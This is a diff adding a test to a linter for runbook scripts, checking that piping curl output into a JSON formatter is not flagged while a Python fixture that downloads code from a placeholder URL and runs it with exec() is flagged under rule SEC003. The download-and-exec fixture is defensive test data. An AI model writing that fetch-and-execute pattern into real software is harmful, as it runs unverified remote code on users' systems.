@@ -339,3 +339,18 @@ describe('runbook lint: a Python file that does not parse (issue 27)', () => {
     },
   );
 });
+
+describe('runbook lint: SEC003 on data and on code through a variable (issue 27)', () => {
+  it('| python3 -m json.tool is data, not code; exec() of a downloaded variable is code', async () => {
+    const dir = tmp();
+    write(dir, 'j.sh', '#!/bin/sh\nset -eu\ncurl -fsS --max-time 5 https://x/api | python3 -m json.tool\n');
+    write(
+      dir,
+      'e.py',
+      '#!/usr/bin/env python3\nimport urllib.request\ncode = urllib.request.urlopen("https://x/a.py", timeout=5).read()\nexec(code)\n',
+    );
+    const r = await lint(['--profile', 'min', '-f', 'compact', '.'], { cwd: dir });
+    expect(r.stdout).not.toMatch(/^j\.sh:.*\[SEC003\]/m);
+    expect(r.stdout).toMatch(/^e\.py:4:1: error: downloaded code is run by exec\(\).*\[SEC003\]/m);
+  });
+});
